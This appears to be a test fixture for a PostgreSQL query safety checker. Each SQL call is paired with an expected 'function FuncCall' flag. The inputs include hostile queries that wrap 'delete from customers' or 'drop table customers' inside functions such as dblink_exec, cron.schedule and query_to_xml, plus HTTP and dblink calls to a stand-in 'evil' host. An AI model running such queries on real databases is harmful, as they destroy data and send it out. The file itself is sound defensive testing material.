--> function FuncCall 1:8
SELECT query_to_xml('select 1', true, false, '')
--> function FuncCall 1:8
SELECT query_to_xmlschema('select 1', true, false, '')
--> function FuncCall 1:8
SELECT query_to_xml_and_xmlschema('select 1', true, false, '')
--> function FuncCall 1:8
SELECT table_to_xml('customers', true, false, '')
--> function FuncCall 1:8
SELECT table_to_xmlschema('customers', true, false, '')
--> function FuncCall 1:8
SELECT table_to_xml_and_xmlschema('customers', true, false, '')
--> function FuncCall 1:8
SELECT schema_to_xml('public', true, false, '')
--> function FuncCall 1:8
SELECT schema_to_xmlschema('public', true, false, '')
--> function FuncCall 1:8
SELECT database_to_xml(true, false, '')
--> function FuncCall 1:8
SELECT database_to_xml_and_xmlschema(true, false, '')
--> function FuncCall 1:8
SELECT cursor_to_xml('c', 1, true, false, '')
--> function FuncCall 1:8
SELECT cursor_to_xmlschema('c', true, false, '')
--> function FuncCall 1:15
SELECT * FROM ts_stat('select fts from customers')
--> function FuncCall 1:8
SELECT ts_stat('select pg_sleep(1)::text::tsvector')
--> function FuncCall 1:8
SELECT ts_rewrite('a'::tsquery, 'select t, s from customers')
--> function FuncCall 1:8
SELECT pg_catalog.query_to_xml('delete from customers', true, false, '')
--> function FuncCall 1:23
SELECT xpath('//row', query_to_xml('select 1', true, false, ''))
--> function FuncCall 1:8
SELECT pg_input_is_valid('x', 'evil_domain')
--> function FuncCall 1:15
SELECT * FROM pg_input_error_info('x', 'evil_domain')
--> function FuncCall 1:8
SELECT dblink('dbname=app', 'delete from customers')
--> function FuncCall 1:15
SELECT * FROM dblink('host=evil', 'select 1') AS t(a int)
--> function FuncCall 1:8
SELECT dblink_exec('dbname=app', 'drop table customers')
--> function FuncCall 1:8
SELECT dblink_connect('c', 'host=evil')
--> function FuncCall 1:8
SELECT dblink_send_query('c', 'select 1')
--> function FuncCall 1:15
SELECT * FROM crosstab('select 1, 2, 3') AS t(a int, b int)
--> function FuncCall 1:15
SELECT * FROM connectby('t', 'a', 'b', '1', 0) AS t(a text, b text, c int)
--> function FuncCall 1:15
SELECT * FROM xpath_table('a', 'b', 'customers', '/', 'true') AS t(a int)
--> function FuncCall 1:8
SELECT plpgsql_check_function('f()')
--> function FuncCall 1:8
SELECT cron.schedule('* * * * *', 'delete from customers')
--> function FuncCall 1:15
SELECT * FROM execute_sql('delete from customers')
--> function FuncCall 1:8
SELECT exec('delete from customers')
--> function FuncCall 1:8
SELECT pgrouting.pgr_dijkstra('select 1', 1, 2)
--> function FuncCall 1:8
SELECT pgr_dijkstra('delete from customers', 1, 2)
--> function FuncCall 1:8
SELECT public.crosstab('select 1')
--> function FuncCall 1:8
SELECT http_get('http://evil')
--> function FuncCall 1:8
SELECT net.http_post('http://evil', '{}')
--> function FuncCall 1:8
SELECT lo_manage()
--> function FuncCall 1:8
SELECT plpython_call_handler()
